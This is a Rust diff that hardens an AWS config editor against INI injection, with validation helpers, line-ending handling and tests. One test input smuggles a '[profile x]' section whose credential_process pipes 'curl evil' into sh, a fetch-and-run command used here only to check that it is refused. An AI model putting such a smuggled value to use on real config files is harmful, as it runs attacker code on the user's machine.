@@ -117,6 +117,7 @@ pub struct AwsConfig {
 impl AwsConfig {
     /// Parses config text. Never fails: what cannot be used becomes a [`ConfigProblem`].
     pub fn parse(path: PathBuf, text: &str) -> AwsConfig {
+        let text = text.strip_prefix(crate::files::BOM).unwrap_or(text);
         let mut problems = Vec::new();
         let ini = parse_ini_skipping_bad_lines(text, &mut problems);
         let mut config = AwsConfig {
@@ -225,8 +226,43 @@ impl AwsConfig {
     }
 }
 
+/// Why `value` cannot be written into `~/.aws/config` as it is, if it cannot: a line break,
+/// tab, NUL or other control character would end or bend the line (and could start a section
+/// or a `credential_process` of someone else's choosing), a leading `[` reads as a section,
+/// and spaces at either end are trimmed by every reader. A `name` (in a section header) also
+/// may not hold `]`. Nothing is ever escaped: the value is refused.
+pub fn ini_problem(what: &str, value: &str, name: bool) -> Option<String> {
+    let why = if value.is_empty() {
+        "is empty"
+    } else if value.chars().any(char::is_control) {
+        "contains a line break, tab or other control character"
+    } else if value.starts_with('[') {
+        "starts with `[`"
+    } else if name && value.contains(']') {
+        "contains `]`"
+    } else if value.trim() != value {
+        "starts or ends with a space"
+    } else {
+        return None;
+    };
+    Some(format!(
+        "{what} {:?} {why}, so it cannot be written into the AWS config file",
+        value
+    ))
+}
+
+/// The line end a config text uses: CRLF if its first line ends so (a file saved on Windows),
+/// else LF.
+pub fn line_end(text: &str) -> &'static str {
+    match text.find('\n') {
+        Some(i) if text[..i].ends_with('\r') => "\r\n",
+        _ => "\n",
+    }
+}
+
 /// The config text with a new `[sso-session NAME]` section appended; every existing byte stays.
-/// Refuses a name already in use, a non-https start URL, or an empty region.
+/// Refuses a name already in use or not one word, a start URL that is not an https URL (or
+/// holds anything an INI line cannot), and a region that does not look like one.
 pub fn append_sso_session(
     text: &str,
     name: &str,
@@ -234,10 +270,26 @@ pub fn append_sso_session(
     region: &str,
 ) -> Result<String, String> {
     let name = name.trim();
-    if name.is_empty() || name.contains([' ', ']', '[', '\n']) {
-        return Err("the session name must be one word, like `my-sso`".into());
+    if let Some(p) = ini_problem("the session name", name, true) {
+        return Err(format!("{p}; use one word, like `my-sso`"));
     }
-    if let Some(p) = validate_start_url("", "sso_start_url", start_url.trim()) {
+    if !name
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '@' | '+'))
+    {
+        return Err(format!("the session name {name:?} must be one word of letters, digits and `-_.@+`, like `my-sso`"));
+    }
+    let start_url = start_url.trim();
+    // Checked before the URL parser, which silently drops line breaks and tabs.
+    if let Some(p) = ini_problem("the start URL", start_url, false) {
+        return Err(format!(
+            "{p}; copy the AWS access portal URL, e.g. https://d-1234567890.awsapps.com/start"
+        ));
+    }
+    if start_url.contains(char::is_whitespace) {
+        return Err("the start URL contains a space; copy the AWS access portal URL, e.g. https://d-1234567890.awsapps.com/start".into());
+    }
+    if let Some(p) = validate_start_url("", "sso_start_url", start_url) {
         return Err(p.message);
     }
     let region = region.trim();
@@ -259,17 +311,16 @@ pub fn append_sso_session(
             "an [sso-session {name}] section already exists; pick another name"
         ));
     }
+    let nl = line_end(text);
     let mut out = text.to_string();
     if !out.is_empty() {
         if !out.ends_with('\n') {
-            out.push('\n');
+            out.push_str(nl);
         }
-        out.push('\n');
+        out.push_str(nl);
     }
-    out.push_str(&format!(
-        "[sso-session {name}]\nsso_start_url = {}\nsso_region = {region}\nsso_registration_scopes = sso:account:access\n",
-        start_url.trim()
-    ));
+    let section = format!("[sso-session {name}]\nsso_start_url = {start_url}\nsso_region = {region}\nsso_registration_scopes = sso:account:access\n");
+    out.push_str(&section.replace('\n', nl));
     Ok(out)
 }
 
@@ -807,6 +858,74 @@ s3 =
             .contains("must use https"));
         assert!(append_sso_session("", "two words", "https://x/start", "us-east-1").is_err());
         assert_eq!(append_sso_session("", "a", "https://x/start", "us-east-1").unwrap(), "[sso-session a]\nsso_start_url = https://x/start\nsso_region = us-east-1\nsso_registration_scopes = sso:account:access\n");
+    }
+
+    #[test]
+    fn nothing_an_ini_line_cannot_hold_is_written() {
+        // The start URL parser would drop these characters and accept the URL.
+        let injected =
+            "https://d-1.awsapps.com/start\n[profile x]\ncredential_process = sh -c 'curl evil|sh'";
+        let err = append_sso_session(GOOD, "work", injected, "eu-west-1").unwrap_err();
+        assert!(
+            err.starts_with("the start URL \"https://d-1.awsapps.com/start\\n[profile x]"),
+            "{err}"
+        );
+        assert!(
+            err.contains("contains a line break, tab or other control character"),
+            "{err}"
+        );
+        // (Spaces and line breaks around a pasted value are trimmed; inside it they are refused.)
+        for url in [
+            "https://d-1.awsapps.com/st\rart",
+            "https://d-1.awsapps\t.com/start",
+            "https://d-1.awsapps.com/st art",
+            "https://d-1.awsapps.com/\0",
+        ] {
+            assert!(
+                append_sso_session(GOOD, "work", url, "eu-west-1").is_err(),
+                "{url:?}"
+            );
+        }
+        for name in [
+            "wo\rrk",
+            "wo\trk",
+            "[work",
+            "wo]rk",
+            "two words",
+            "",
+            "wo\nrk",
+        ] {
+            assert!(
+                append_sso_session(GOOD, name, "https://d-1.awsapps.com/start", "eu-west-1")
+                    .is_err(),
+                "{name:?}"
+            );
+        }
+        assert!(append_sso_session(
+            GOOD,
+            "work",
+            "https://d-1.awsapps.com/start",
+            "eu-west-1\n[x]"
+        )
+        .is_err());
+        assert_eq!(ini_problem("x", "ok value", false), None);
+        assert!(ini_problem("x", "a]b", true)
+            .unwrap()
+            .contains("contains `]`"));
+        assert!(ini_problem("x", "a]b", false).is_none());
+        assert!(ini_problem("x", " a", false)
+            .unwrap()
+            .contains("starts or ends with a space"));
+    }
+
+    #[test]
+    fn a_section_appended_to_a_windows_file_uses_its_line_ends() {
+        let text = "[default]\r\nregion = eu-west-1\r\n";
+        let out =
+            append_sso_session(text, "w", "https://d-1.awsapps.com/start", "eu-west-1").unwrap();
+        assert!(out.starts_with(text));
+        assert_eq!(&out[text.len()..], "\r\n[sso-session w]\r\nsso_start_url = https://d-1.awsapps.com/start\r\nsso_region = eu-west-1\r\nsso_registration_scopes = sso:account:access\r\n");
+        assert!(parse(&out).session("w").is_some());
     }
 
     #[test]
